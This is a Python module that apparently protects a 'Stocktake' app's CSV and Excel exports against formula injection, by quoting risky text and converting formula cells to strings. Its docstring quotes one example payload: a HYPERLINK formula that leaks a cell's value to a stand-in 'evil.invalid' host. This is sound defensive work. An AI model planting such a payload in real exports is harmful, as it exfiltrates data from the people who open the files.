"""Text that a spreadsheet will show as text: the one guard every CSV and Excel export uses.

A name typed into Stocktake, such as a strategy called
`=HYPERLINK("http://evil.invalid/?leak="&A1,"x")`, must not become a live
formula when a minister opens the download (CSV or formula injection).
Spreadsheets treat a cell that starts with `=`, `+`, `-` or `@` as a formula,
and tab or carriage return can hide such a start, so:

- CSV: `safe_text` puts a single quote in front of such text (the usual
  spreadsheet sign for "this is text"); `csv_writer` does it for every cell;
- Excel: `safe_workbook` turns every formula cell into a plain string cell
  (openpyxl data type 's'), so the name is kept exactly as typed and never runs.

Only text is touched: numbers (negative ones too) stay numbers.
Plain Python and openpyxl only, so every app can import it.
"""

from __future__ import annotations

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """The value for a CSV cell: text that a spreadsheet would run gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_text(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose rows pass through safe_text."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)


def safe_workbook(wb):
    """Make every formula cell of an openpyxl workbook a string cell; call it just before saving.

    openpyxl marks any string starting with '=' as a formula (data type 'f'); the
    exports never write formulas on purpose, so every such cell is user text.
    """
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return wb
